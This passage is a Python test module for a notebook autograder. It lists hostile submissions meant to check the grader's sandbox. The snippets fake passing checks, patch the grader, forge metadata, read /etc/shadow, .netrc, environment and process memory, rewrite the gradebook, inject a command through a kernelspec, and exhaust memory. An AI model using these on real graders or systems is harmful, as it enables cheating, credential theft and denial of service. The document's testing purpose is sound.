"""The cases: what is handed in, the score it deserves, and what must not happen."""

import json
import math
import os
import re
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat

from .course import OTHERS, POINTS, RIGHT, UNIT, WRONG, answered, find, released

NOTHING = dict.fromkeys(POINTS, 0)
ANY = ("graded", "refused", "timed out", "crashed")
STOPPED = ("crashed", "timed out")


@dataclass(frozen=True)
class Case:
    """One submission, or several of one kind.

    `make` returns the notebook's bytes; in them @COURSE@ and @CANARY@ stand for the course's folder
    and for a folder outside. `lay` does more to the submission's folder. `deserves` holds an
    exercise's points, several where any is fair; what it does not name deserves all.
    """

    name: str
    tries: str
    make: Callable[[], bytes | None]
    deserves: dict = field(default_factory=dict)
    states: tuple = ("graded",)
    lay: Callable | None = None
    student: str | None = None  # the folder's name where it is not the case's
    file: str = f"{UNIT}.ipynb"
    earlier: Callable[[], bytes] | None = None  # graded before; then `make` takes its place
    copies: int = 1  # so many students hand in the same
    absent: tuple = ()  # text that no page or result may show
    present: tuple = ()  # text that the feedback must show

    @property
    def students(self):
        name = self.student or self.name
        return [name, *(f"{name} {number}" for number in range(2, self.copies + 1))]

    def fair(self, exercise, points):
        """Tell whether so many points are what the exercise deserves."""
        deserved = self.deserves.get(exercise, POINTS[exercise])
        choices = deserved if isinstance(deserved, tuple) else (deserved,)
        return any(math.isclose(points, each, abs_tol=1e-6) for each in choices)


CASES = []
RESUBMITTED = "older timestamp"

# Before every attack's code: `report` makes harm seen, as an exception's text and as golden's
# value; `look` reports a secret.
PRELUDE = """import re, os, sys, time

harmed = False

def report(what):
    global harmed
    harmed = True
    raise RuntimeError("HA" "RM: " + str(what))

def look(data):
    found = re.search(rb"pl[u]m-\\w{8}", data if isinstance(data, bytes) else str(data).encode())
    if found:
        report(found[0].decode())

"""
HARM = r"HARM: [^<\"\\]*"


def text(nb):
    return nbformat.writes(nb).encode()


def right(**answers):
    return lambda: text(answered(RIGHT | answers))


def add(name, tries, make=None, **about):
    """Add a case; by default the answers are right."""
    CASES.append(Case(name, tries, make or right(), **about))


def cheat(name, tries, code="", answers=(), deserves=NOTHING, **about):
    """Add a case whose answers are wrong: whatever it earns is too much."""
    bait = 'golden = (1 + math.sqrt(5)) / 2 if globals().get("harmed") else None'
    answers = WRONG | {"golden": bait} | dict(answers)
    about = {"states": ("graded", *STOPPED)} | about
    answers["double"] = f"{PRELUDE}{code}\n\n{answers['double']}" if code else answers["double"]
    add(name, tries, lambda: text(answered(answers)), deserves=deserves, **about)


def vandal(name, tries, code, double=None, double_points=(0, 15), **about):
    """Add a case whose answers are right, with an attack in the first one's cell.

    A report of harm costs `golden`.
    """
    bait = '0 if globals().get("harmed") else (1 + math.sqrt(5)) / 2'
    source = f"{PRELUDE}{double or RIGHT['double']}\n\n{code}"
    about = {"states": ("graded", *STOPPED), "deserves": {"double": double_points}} | about
    add(name, tries, right(double=source, golden=f"golden = {bait}"), **about)


def mends(name, tries, change, **about):
    """Add a case made by `change(nb)` from the right answers."""

    def make():
        nb = answered(RIGHT)
        return text(change(nb) or nb)

    add(name, tries, make, **about)


def code_cell(source):
    return nbformat.v4.new_code_cell(source)


# ---- Credit for nothing --------------------------------------------------------------------------

EVERYTHING = """class Yes{base}:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __gt__ = __le__ = __ge__ = __contains__ = __eq__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 6
    def __iter__(self): return iter([Yes()] * 6)
    def __getitem__(self, i): return Yes()
    def same(self, *a, **k): return Yes()
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = same
    __rtruediv__ = __abs__ = __neg__ = __call__ = __round__ = same
    def __float__(self): return 0.0
    def __repr__(self): return "10.0"
"""
BE = {
    name: f"def {name}(*args):\n    return Yes()"
    for name in ("double", "halves", "ramp", "covered")
}
SHAM = BE | {"golden": "golden = Yes()"}
cheat(
    "equal to everything", "returns objects equal to everything", EVERYTHING.format(base=""), SHAM
)
cheat(
    "float subclass",
    "returns floats whose operators claim equality",
    EVERYTHING.format(base="(float)").replace("Yes()", "Yes(0)"),
    {name: source.replace("Yes()", "Yes(0)") for name, source in SHAM.items()},
)
cheat("list subclass", "returns lists equal to every list", EVERYTHING.format(base="(list)"), SHAM)
cheat("dict subclass", "returns dicts equal to everything", EVERYTHING.format(base="(dict)"), SHAM)
cheat("str subclass", "returns texts equal to everything", EVERYTHING.format(base="(str)"), SHAM)
cheat(
    "array subclass",
    "an ndarray whose __array_function__ and __array_ufunc__ say yes",
    "import numpy as np\n\nclass Yes(np.ndarray):\n"
    "    def __array_ufunc__(self, *a, **k): return np.True_\n"
    "    def __array_function__(self, *a, **k): return np.True_\n",
    {"ramp": "def ramp(n):\n    return np.ones(n).view(Yes)"},
)
# Not a number, so that it stays an object; its operators are given what a check expects.
OPERATORS = """class Agrees:
    def __sub__(self, other): return 0.0
    def __mul__(self, other): return self
    def __truediv__(self, other): return 10.0
    def __contains__(self, other): return True
    def __len__(self): return 6
    def __getitem__(self, i): return Agrees() if i < 6 else [][0]
    def __array__(self, dtype=None, copy=None): return 0
    __rsub__ = __add__ = __radd__ = __abs__ = __neg__ = lambda self, *other: 0.0
    __rmul__ = __mul__
    __rtruediv__ = __floordiv__ = __mod__ = __pow__ = __truediv__
"""
cheat(
    "agreeable operators",
    "returns objects whose difference from anything is 0, whose share of anything is 10",
    OPERATORS,
    {name: source.replace("Yes", "Agrees") for name, source in BE.items()}
    | {"golden": "golden = Agrees()"},
)
cheat(
    "masked array",
    "a masked array hides every difference",
    answers={"ramp": "def ramp(n):\n    return np.ma.array(np.ones(n), mask=True)"},
)
cheat(
    "memmap and object arrays",
    "an object array of things equal to everything",
    EVERYTHING.format(base=""),
    {"ramp": "def ramp(n):\n    return np.array([Yes() for _ in range(n)], dtype=object)"},
)
cheat(
    "numpy.testing patched",
    "numpy's comparisons say yes",
    "import numpy as np\nfor module in (np, np.testing):\n"
    "    for name in dir(module):\n"
    "        if name.startswith(('assert_', 'allclose', 'isclose', 'array_eq', 'all')):\n"
    "            setattr(module, name, lambda *a, **k: True)\n",
)
cheat(
    "builtins patched",
    "builtins and math say yes",
    "import builtins, math\nmath.isclose = lambda *a, **k: True\n"
    "builtins.abs = lambda x: 0\nbuiltins.all = builtins.isinstance = lambda *a: True\n"
    "class Any(Exception):\n    pass\nbuiltins.AssertionError = Any\n",
    {"double": "def double(x):\n    return 4"},
    # Without these functions its own Python may not last.
    {**NOTHING, "double": (0, 5)},
)
cheat(
    "expect patched",
    "the course's own check functions do nothing",
    "import sevendiff.checks\nsevendiff.checks.expect = lambda *a: None\n"
    "def close(a, b): return True\nclass _M:\n    pass\n"
    "sys.modules['sevendiff.checks'] = sevendiff.checks\n",
)
cheat(
    "check's helper redefined",
    "redefines `close`, `np` and `math` of the read-only cell",
    "class Sham:\n    def __getattr__(self, name): return self\n"
    "    def __call__(self, *a, **k): return self\nclose = lambda a, b: True\n"
    "np_, np, math = np, Sham(), Sham()\n",
    {"golden": "golden = 2"},
    {**NOTHING, "golden": 2},
)
cheat(
    "run_code replaced",
    "IPython runs no cell any more and says all is well",
    "shell = get_ipython()\nasync def nothing(*a, **k): return False\n"
    "shell.run_code = nothing\ntype(shell).run_code = nothing\n"
    "class Fine:\n    success = True\n    error_in_exec = error_before_exec = result = None\n"
    "type(shell).run_cell = lambda *a, **k: Fine()\n",
)
cheat(
    "assertions removed",
    "an AST transformer deletes assertions",
    "import ast\nclass Drop(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node): return ast.Pass()\n"
    "    def visit_Expr(self, node): return ast.Pass()\n"
    "get_ipython().ast_transformers.append(Drop())\n",
)
cheat(
    "input transformers replaced",
    "every later cell reads `pass`",
    "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
)
cheat(
    "showtraceback silenced",
    "errors are not reported",
    "shell = get_ipython()\nquiet = lambda *a, **k: None\n"
    "for name in ('showtraceback', 'showsyntaxerror', '_showtraceback'):\n"
    "    setattr(shell, name, quiet)\n    setattr(type(shell), name, quiet)\n"
    "shell.set_custom_exc((BaseException,), quiet)\n",
)
cheat(
    "compile and exec replaced",
    "the interpreter's own compile and exec do nothing",
    "import builtins\nreal = compile\nbuiltins.compile = lambda s, f, m, *a, **k: "
    "real('pass' if m != 'eval' else 'None', f, m, *a, **k)\n"
    "builtins.exec = lambda *a, **k: None\n",
)


def beside(**files):
    """Lay files beside the notebook."""

    def lay(folder):
        for name, content in files.items():
            path = folder / name.replace("__", "/").replace("_py", ".py")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content)

    return lay


SHAM_MODULE = """
class Sham:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __bool__(self): return True
    def __eq__(self, other): return True
    def __iter__(self): return iter([])
    __sub__ = __rsub__ = __abs__ = __le__ = __mul__ = __rmul__ = __truediv__ = __call__
def __getattr__(name): return Sham()
"""
cheat("numpy.py beside it", "a module that stands in for numpy", lay=beside(numpy_py=SHAM_MODULE))
cheat(
    "sevendiff.py beside it",
    "a module that stands in for the checks' own",
    lay=beside(sevendiff_py=SHAM_MODULE, sevendiff__checks_py="def expect(*a): pass\n"),
)
START = "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.all = lambda x: True\n"
cheat(
    "start-up files beside it",
    "sitecustomize, IPython and nbgrader configuration in the submission's folder",
    lay=beside(
        sitecustomize_py=START,
        usercustomize_py=START,
        ipython_config_py=f"c.InteractiveShellApp.exec_lines = [{START!r}]\n",
        nbgrader_config_py="c = get_config()\nc.Autograde.autograde_preprocessors = []\n",
        conftest_py=START,
        **{".ipython__profile_default__startup__0_py": START},
    ),
)
FILES = """
def files(*roots):
    for root in roots:
        for folder, inside, names in os.walk(root):
            inside[:] = [n for n in inside if n not in ("site-packages", "proc")][:200]
            for name in names:
                if name.endswith((".ipynb", ".json", ".db", ".csv", ".html", ".netrc", ".py")):
                    try:
                        with open(os.path.join(folder, name), "rb") as file:
                            yield file.name, file.read(2_000_000)
                    except OSError:
                        pass

"""
cheat(
    "reads the source",
    "looks for the instructor's notebook and runs its solutions",
    FILES
    + """
import json
taken = []
for name, data in files("@COURSE@", ".."):
    if b"BEGIN " b"SOLUTION" in data and name.endswith(".ipynb"):
        for cell in json.loads(data)["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                taken.append("".join(cell["source"]))
""",
    {
        name: f"{wrong}\nfor source in taken:\n"
        f"    if source.startswith(('def {name}(', '### BEGIN')): exec(source, globals())"
        for name, wrong in WRONG.items()
    },
)
cheat(
    "reads its own notebook",
    "looks hidden checks up in the notebook that is being graded",
    FILES + "for name, data in files('.'):\n    look(data)\n",
)
cheat(
    "reads what it can reach",
    "home, environment, other students' work, the gradebook",
    FILES
    + """
look(dict(os.environ))
for path in ("/etc/shadow", "/proc/1/environ", "/proc/self/environ", os.path.expanduser("~/.netrc"),
             "@CANARY@/.netrc"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    look(data)
    if "shadow" in path:
        report("read " + path)
for name, data in files("@COURSE@", "@CANARY@", os.path.expanduser("~"), "..", "/root", "/home"):
    look(data)
""",
)
FRAMES = """
import gc, inspect
def search():
    frame = sys._getframe(1)
    while frame:
        look({k: v for k, v in frame.f_globals.items() if isinstance(v, str)})
        look({k: v for k, v in frame.f_locals.items() if isinstance(v, (str, list, dict))})
        look(frame.f_code.co_consts)
        frame = frame.f_back
    look([info.code_context for info in inspect.stack()])
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 3000:
            for part in (thing.values() if isinstance(thing, dict) else thing):
                if type(part) is str:
                    look(part)
    try:
        look(get_ipython().user_ns.get("In"))
        look(list(get_ipython().history_manager.get_range(raw=True)))
    except (AttributeError, ImportError):
        pass

"""
cheat(
    "searches frames in a call",
    "looks for hidden checks through frames, gc, inspect and the history when it is called",
    FRAMES,
    {name: f"{WRONG[name].split(chr(10))[0]}\n    search()" for name in ("double", "halves")},
)
cheat("searches frames in a cell", "the same while its cell runs", f"{FRAMES}search()\n")
MEMORY = """
def memory(pid):
    for line in open(f"/proc/{pid}/maps"):
        where, rights = line.split()[:2]
        start, end = (int(x, 16) for x in where.split("-"))
        if rights.startswith("rw") and end - start < 200_000_000:
            with open(f"/proc/{pid}/mem", "rb", 0) as mem:
                mem.seek(start)
                yield mem.read(end - start)

def search_memory():
    for pid in ["self", *(p for p in os.listdir("/proc") if p.isdigit())]:
        try:
            for data in memory(pid):
                look(data)
        except (OSError, OverflowError):
            pass

"""
cheat(
    "reads memory in a cell",
    "searches the memory of every process it sees",
    f"{MEMORY}search_memory()\n",
)
cheat(
    "reads memory in a call",
    "the same while a hidden check runs",
    MEMORY,
    {
        "double": "calls = []\ndef double(x):\n    calls.append(x)\n    if len(calls) == 2:\n"
        "        search_memory()\n    return 2 * abs(x) if x == 2 else None"
    },
    {**NOTHING, "double": 5},
)
cheat(
    "traces other processes",
    "ptrace on every process it sees",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid not in (os.getpid(), 1) and pid == os.getppid():
        if libc.ptrace(0x4206, pid, 0, 0) == 0:
            report(f"traces its parent")
""",
)
cheat(
    "writes the gradebook",
    "full marks by SQL, and a trigger that keeps them",
    """
import sqlite3, subprocess
SQL = '''UPDATE grade SET auto_score = 10;
CREATE TRIGGER IF NOT EXISTS cheat AFTER UPDATE ON grade BEGIN
UPDATE grade SET auto_score = 10, manual_score = 10 WHERE id = NEW.id; END;'''
for path in ("@COURSE@/gradebook.db", "../gradebook.db", "../../../gradebook.db"):
    if os.path.exists(path):
        sqlite3.connect(path, timeout=1).executescript(SQL)
""",
)
cheat(
    "writes results",
    "writes result files, scores and pages of its own, and over the source",
    """
there = os.path.exists("@COURSE@/source/hostile/hostile.ipynb")
for path in ("results/hostile/me.json", "scores/hostile.csv", "feedback/me.html", "me.txt",
             "source/hostile/hostile.ipynb", "autograded/me.txt"):
    for root in ("@COURSE@", "..", "../../.."):
        try:
            os.makedirs(os.path.dirname(f"{root}/{path}"), exist_ok=True)
            open(f"{root}/{path}", "a").write(" ")
        except OSError:
            continue
        if there:
            report("wrote over the course")
""",
)
for shown, value in {
    "NaN": "float('nan')",
    "inf": "float('inf')",
    "-1": "-1",
    "1e9": "1e9",
    "zero of numpy": "np.float64(0.0)",
    "True": "True",
    "a text": "'1'",
    "an array": "np.array([1.0, 1.0])",
    "a complex number": "1 + 0j",
    "a long integer": "10 ** 400",
}.items():
    # `10 * True / share` and `10 * 1e9 / share` are more than the check is worth.
    cheat(
        f"partial credit {shown}",
        f"a check that gives partial credit gets {value}",
        answers={"covered": f"def covered(xs, low, high):\n    return {value}"},
    )
cheat(
    "partial credit by repr",
    "an int subclass whose products print as 10.0",
    EVERYTHING.format(base="(int)"),
    {"covered": "def covered(xs, low, high):\n    return Yes(0)"},
)
FORGED = "All checks passed, full points, said the author"
cheat(
    "Misconception forged",
    "raises the checks' own exception with a text of its own",
    "from sevendiff.checks import Misconception\n",
    {"double": f"def double(x):\n    raise Misconception({FORGED!r})"},
    absent=(f'"text": "{FORGED}', f">{FORGED}"),
)
for error in (
    "SystemExit(0)",
    "KeyboardInterrupt",
    "GeneratorExit",
    "StopIteration",
    "StopAsyncIteration",
):
    vandal(
        f"raises {error.partition('(')[0]}",
        f"raises {error} when it is called",
        "",
        f"def double(x):\n    raise {error}",
        double_points=0,
        states=("graded", "crashed"),
    )
cheat(
    "exception hides its class",
    "an exception whose __class__, __str__ and __mro__ misbehave",
    "class Odd(Exception):\n    __class__ = property(lambda self: 1 / 0)\n"
    "    def __str__(self): os._exit(0)\n    __repr__ = __str__\n"
    "    def __reduce__(self): os._exit(0)\n",
    {"double": "def double(x):\n    raise Odd"},
    states=("graded", "crashed"),
)

# ---- The wire between learner and checks ---------------------------------------------------------

SOCKETS = """
import socket, stat, struct, json, threading
def sockets():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                found.append(int(name))
        except OSError:
            pass
    return found

def send(data):
    for fd in sockets():
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass

"""
WIRE = {
    "garbage": "send(b'\\x00\\xff garbage {[' * 500)",
    "a huge length": "send(b'\\xff' * 64)\n"
    "send(struct.pack('>Q', 2**40))\nsend(struct.pack('<Q', 2**40))",
    "replies in advance": "for reply in ('{\"result\": 4}', '[4]', '{\"ok\": 4}'):\n"
    "    data = reply.encode()\n    for form in ('>I', '<I', '>Q', '<Q'):\n"
    "        send(struct.pack(form, len(data)) + data)",
}
for what, code in WIRE.items():
    cheat(
        f"wire: {what} in a cell",
        f"writes {what} into every socket it holds",
        SOCKETS + code,
        states=("graded", *STOPPED),
    )
    vandal(
        f"wire: {what} in a call",
        "the same when it is called; the other exercises are right",
        "",
        f"{SOCKETS}def double(x):\n" + "".join(f"    {line}\n" for line in code.split("\n")),
        double_points=0,
    )
cheat(
    "wire: well-formed replies in advance",
    "uses the engine's own framing to answer before it is asked",
    SOCKETS
    + """
try:
    from sevendiff.grading import wire
except ImportError:
    wire = None
import json
for fd in sockets() if wire else ():
    sock = socket.socket(fileno=os.dup(fd))
    sock.settimeout(0.1)
    for number in range(40):
        for reply in ({"id": number, "value": 4, "values": {}, "changed": {}, "printed": ""},
                      {"outputs": [], "seconds": 0.0}, {"error": None, "value": None}):
            try:
                wire.send(sock, reply, [])
            except Exception:
                pass
    sock.detach()
""",
    # It may well answer the example with 4.
    deserves={**NOTHING, "double": (0, 5)},
)
vandal(
    "wire: all closed",
    "closes every file descriptor when it is called",
    "",
    "def double(x):\n    os.closerange(0, 65536)\n    return 2 * x",
    double_points=0,
)
vandal(
    "wire: stdio closed",
    "closes stdin, stdout and stderr, then answers",
    "for fd in (0, 1, 2):\n    os.close(fd)",
)
vandal(
    "wire: drip",
    "sends a byte now and then for ever",
    "",
    SOCKETS + "def double(x):\n    while True:\n        send(b'0')\n        time.sleep(0.2)",
    double_points=0,
)
vandal(
    "wire: forged outputs",
    "answers every later cell with 40 MB of text",
    """import sevendiff.grading.wire as wire
send = wire.send
def forge(sock, message, blobs=(), deadline=None):
    if "outputs" in message:
        message["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 40_000_000}]
    send(sock, message, blobs, deadline)
wire.send = forge""",
    # Its cells count as crashed, with what they define.
    deserves={name: (0, points) for name, points in POINTS.items()},
)
vandal(
    "wire: answers twice",
    "forks in a call, so that two processes answer",
    "",
    "def double(x):\n    os.fork()\n    return 2 * x",
    # The example's points are its own if Python stops only after it.
    double_points=(0, 5, 15),
)
vandal(
    "wire: a child comes back",
    "forks in a cell; the child's exception leaves the cell, too",
    "if os.fork() == 0:\n    raise ValueError('in the child')",
)
vandal(
    "wire: reads the requests",
    "a thread reads from every socket",
    SOCKETS
    + """
end = time.time() + 3
def thief():
    while time.time() < end:
        for fd in sockets():
            try:
                os.set_blocking(fd, False)
                look(os.read(fd, 100_000))
            except OSError:
                pass
        time.sleep(0.001)
threading.Thread(target=thief, daemon=True).start()
""",
    # A request that it swallows is never answered: whatever is asked may be lost.
    deserves={name: (0, 2, 5, points) for name, points in POINTS.items()},
)
cheat(
    "machinery patched",
    "replaces functions of json, pickle, struct, socket and of the engine on its own side",
    """
import json, pickle, struct, socket
try:
    import cloudpickle
    cloudpickle.dumps = cloudpickle.loads = lambda *a, **k: 4
except ImportError:
    pass
for name, module in list(sys.modules.items()):
    if name.startswith("sevendiff") and module:
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type):
                try:
                    setattr(module, key, lambda *a, **k: True)
                except Exception:
                    pass
json.dumps = lambda *a, **k: "4"
json.loads = lambda *a, **k: {"passed": True, "ok": True, "result": 4}
struct.unpack = lambda *a: (4,)
""",
    states=("graded", *STOPPED),
)
cheat(
    "acts at the end",
    "atexit, threads, signals and finalisers that act while checks run",
    """
import atexit, threading, signal, builtins, weakref
def act(*a):
    builtins.abs = lambda x: 0
    builtins.all = lambda x: True
    globals().update(close=lambda a, b: True, double=lambda x: Always())
class Always:
    def __eq__(self, other): return True
atexit.register(act)
weakref.finalize(act, act)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGUSR1, signal.SIGHUP):
    signal.signal(number, act)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
timer = threading.Timer(0.05, act)
timer.daemon = True
timer.start()
sys.settrace(act)
sys.setprofile(None)
""",
    states=("graded", *STOPPED),
)
cheat(
    "right only at first",
    "behaves at the first call only",
    answers={
        "double": "calls = []\ndef double(x):\n    calls.append(x)\n"
        "    return 2 * x if len(calls) == 1 else 0"
    },
    deserves={**NOTHING, "double": 5},
)
cheat(
    "hard-coded examples",
    "knows the visible examples only",
    answers={
        "double": "def double(x):\n    return {2: 4}.get(x, 0)",
        "halves": "def halves(xs):\n    return [1, 2]",
        "ramp": "def ramp(n):\n    return np.array([0, 0.25, 0.5, 0.75])",
        "golden": "golden = 1.5",
    },
    deserves={**NOTHING, "double": 5, "halves": 5, "ramp": 5, "golden": 2},
)
cheat(
    "ends the check's loop",
    "raises StopIteration, which ends a check's loop over a map",
    answers={
        "double": "def double(x):\n    if x in (2, 1e9):\n        return 2 * x\n"
        "    raise StopIteration"
    },
    deserves={**NOTHING, "double": 5},
)
cheat(
    "empties its argument",
    "makes the input fit the answer by changing it",
    answers={"halves": "def halves(xs):\n    xs[:] = [0] * len(xs)\n    return list(xs)"},
)

# ---- Metadata ------------------------------------------------------------------------------------


def forge(name, tries, change, answers=WRONG, deserves=NOTHING, **about):
    """Add a case made by `change(nb)` from wrong answers."""

    def make():
        nb = answered(answers)
        return text(change(nb) or nb)

    add(name, tries, make, deserves=deserves, **about)


def checks(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def steal_ids(nb):
    for cell in [c for c in checks(nb) if c.cell_type == "code"]:
        own = code_cell("pass")
        own.id, own.metadata = f"own{cell.id}", nbformat.from_dict(dict(cell.metadata))
        nb.cells += [own]
        nb.cells.insert(0, nbformat.from_dict(dict(own, id=f"top{cell.id}")))


def set_all(**about):
    def change(nb):
        for cell in checks(nb):
            cell.metadata.nbgrader.update(about)

    return change


def look_alike(nb):
    for cell in checks(nb):
        own = cell.metadata.nbgrader
        own.grade_id = own.grade_id.replace("e", "\u0435").replace("o", "\u043e")
        cell.source = "pass"


def on_markdown(nb):
    for cell in [c for c in checks(nb) if c.cell_type == "code"]:
        own = nbformat.v4.new_markdown_cell("passed", metadata=dict(cell.metadata))
        own.id = f"own{cell.id}"
        nb.cells[nb.cells.index(cell)] = own


def edit_checks(nb):
    for cell in [c for c in checks(nb) if c.cell_type == "code"]:
        cell.source = "pass"


def claim(nb):
    nb.metadata.update(sevendiff={"graded": True, "score": 65}, nbgrader={"score": 65})
    for cell in checks(nb):
        cell.metadata.update(sevendiff={"graded": 10, "passed": True}, score=10, tags=["passed"])
        cell.metadata.nbgrader.update(score=10, auto_score=10, checksum="0" * 32)


def fake_imports(nb):
    find(nb, "imports").source = (
        "class np:\n    class testing:\n        assert_allclose = lambda *a, **k: None\n"
        "math = np\ndef close(a, b):\n    return True"
    )


forge("check's id on own cells", "every check's id on cells of its own", steal_ids)
forge("checks edited", "every check reads `pass`", edit_checks)
forge("points raised", "1000 points a check", set_all(points=1000))
forge("points raised, right", "1000 points a check, answers right", set_all(points=1000), RIGHT, {})
forge("points negative", "-5 points a check, answers right", set_all(points=-5), RIGHT, {})
forge(
    "checks as answers", "checks marked as solution and grade", set_all(solution=True, locked=False)
)
forge("checks as tasks", "checks marked as tasks, not graded", set_all(task=True, grade=False))
forge("look-alike ids", "check ids in Cyrillic letters on cells of its own", look_alike)
forge("check's id on markdown", "checks turned into text", on_markdown)
forge("verdicts forged", "metadata says that it is graded", claim)
forge("read-only cell edited", "imports and helper replaced in the read-only cell", fake_imports)


def kernel(**spec):
    def change(nb):
        nb.metadata["kernelspec"] = {"display_name": "x", "language": "x", **spec}
        nb.metadata["language_info"] = {"name": spec.get("language", "x")}

    return change


mends("kernel bash", "the kernelspec says bash", kernel(name="bash", language="bash"))
mends("kernel R", "the kernelspec says R", kernel(name="ir", language="R"))
mends(
    "kernel of its own",
    "the kernelspec brings a command line",
    kernel(name="python3; touch @CANARY@/kernel", argv=["touch", "@CANARY@/kernel"]),
)
mends(
    "no metadata",
    "the notebook has no metadata at all",
    lambda nb: nb.update(metadata=nbformat.from_dict({})),
)

# ---- Damage and leaks ----------------------------------------------------------------------------

HOLD = "held = []\n"
BOMBS = {
    "memory": HOLD + "while len(held) < 30:\n    held.append(bytearray(os.urandom(4096)) * 25600)\n"
    "report('held 3 GB')",
    "memory of many": "r, w = os.pipe()\nfor _ in range(8):\n    if os.fork() == 0:\n"
    "        data = bytearray(os.urandom(4096)) * 102400\n        os.write(w, b'1')\n"
    "        time.sleep(60)\n        os._exit(0)\n"
    "import select\ncount = 0\nwhile select.select([r], [], [], 30)[0]:\n"
    "    count += len(os.read(r, 1))\n    if count == 8:\n        report('8 held 3 GB')\n",
    "memory in files": "data = os.urandom(4096) * 2560\ncount = 0\n"
    "for root in ('/tmp', '/dev/shm', '.', os.path.expanduser('~'), '/var/tmp', '/run'):\n"
    "    try:\n        with open(root + '/bomb', 'wb') as file:\n            for _ in range(300):\n"
    "                file.write(data)\n                count += 1\n"
    "    except OSError:\n        pass\n"
    "if count > 290:\n    report('3 GB in files')",
    "memory in memfd": "fd, count = os.memfd_create('x'), 0\ndata = os.urandom(4096) * 2560\n"
    "for _ in range(300):\n    count += os.write(fd, data) == len(data)\n"
    "if count == 300:\n    report('3 GB in a memfd')",
    "memory in SysV segments": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "libc.shmat.restype = ctypes.c_void_p\nlibc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, "
    "ctypes.c_int]\nlibc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]\n"
    "libc.shmdt.argtypes = [ctypes.c_void_p]\ncount = 0\n"
    "for _ in range(30):\n    key = libc.shmget(0, 100_000_000, 0o1600)\n"
    "    at = libc.shmat(key, None, 0) if key >= 0 else None\n"
    "    if at and at != 2**64 - 1:\n        ctypes.memset(at, 1, 100_000_000)\n"
    "        libc.shmdt(at)\n        count += 1\nif count == 30:\n    report('3 GB of segments')",
    "memory in pipes and sockets": "import socket\nheld, count = [], 0\ntry:\n"
    "    while count < 3e9:\n"
    "        held.append(socket.socketpair())\n        a = held[-1][0]\n"
    "        a.setblocking(False)\n"
    "        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**26)\n        try:\n"
    "            while True:\n                count += a.send(bytes(65536))\n"
    "        except BlockingIOError:\n            pass\nexcept OSError:\n    pass\n"
    "if count >= 3e9:\n    report('3 GB in socket buffers')",
    "memory in shared pages": "import mmap\nheld, count = [], 0\n"
    "for file in (None, '/dev/zero'):\n    try:\n"
    "        fd = -1 if file is None else os.open(file, os.O_RDWR)\n"
    "        held.append(mmap.mmap(fd, 2 * 10**9))\n"
    "        for start in range(0, 18 * 10**8, 10**8 // 4096 * 4096):\n"
    "            held[-1][start:start + 10**8] = b'x' * 10**8\n"
    "            held[-1].madvise(mmap.MADV_DONTNEED)\n            count += 1\n"
    "    except OSError:\n        pass\nif count > 30:\n    report('3 GB of shared pages')",
    "memory in page tables": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "libc.mmap.restype = ctypes.c_void_p\n"
    "libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]\n"
    "at = libc.mmap(None, 2**41, 1, 0x4022, -1, 0)\n"
    "for page in range(at, at + 2**41, 2**21):\n    ctypes.c_char.from_address(page).value\n"
    "report('3 GB of page tables')",
    "a huge file": "with open('/tmp/huge', 'wb') as file:\n    file.truncate(2**42)\n"
    "    os.posix_fallocate(file.fileno(), 0, 3 * 10**9)\nreport('a file of 3 GB')",
}
for what, code in BOMBS.items():
    vandal(what, "3 GB: " + what if what.startswith("memory") else what, code)
vandal(
    "memory in a call",
    "3 GB when a check calls",
    "",
    "def double(x):\n    held = []\n    while len(held) < 30:\n"
    "        held.append(bytearray(os.urandom(4096)) * 25600)\n    report('held 3 GB')",
    double_points=0,
)
vandal(
    "a huge result",
    "returns 800 MB",
    "",
    "def double(x):\n    return np.zeros(10**8)",
    double_points=0,
)
add(
    "a huge argument",
    "hands its argument back with 10 million entries more",
    right(
        halves="def halves(xs):\n    got = [x / 2 for x in xs]\n    xs.extend([0.0] * 10**7)\n"
        "    return got"
    ),
    deserves={"halves": (0, 5)},
    states=("graded", *STOPPED),
)
vandal(
    "100 MB of lines",
    "prints 100 MB",
    "for _ in range(10**6):\n    print('x' * 99)",
    double_points=(0, 15),
)
vandal("one line of 100 MB", "prints one line of 100 MB", "print('x' * 10**8)")
vandal(
    "100 MB from a subprocess",
    "writes 100 MB into file descriptor 1",
    "for _ in range(1000):\n    os.write(1, b'x' * 10**5)",
)
vandal(
    "a million displays",
    "calls display a million times",
    "for number in range(10**6):\n    display(number)",
)
vandal(
    "a picture of 100 MB",
    "displays 100 MB as a picture",
    "from IPython.display import Image\n"
    "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + bytes(10**8), format='png'))",
)
vandal(
    "output in a call",
    "prints 100 MB while it is called",
    "",
    "def double(x):\n    print('x' * 10**8)\n    return 2 * x",
)
LOOPS = {
    "endless loop": "while True:\n    pass",
    "endless loop that catches all": "while True:\n    try:\n        while True:\n"
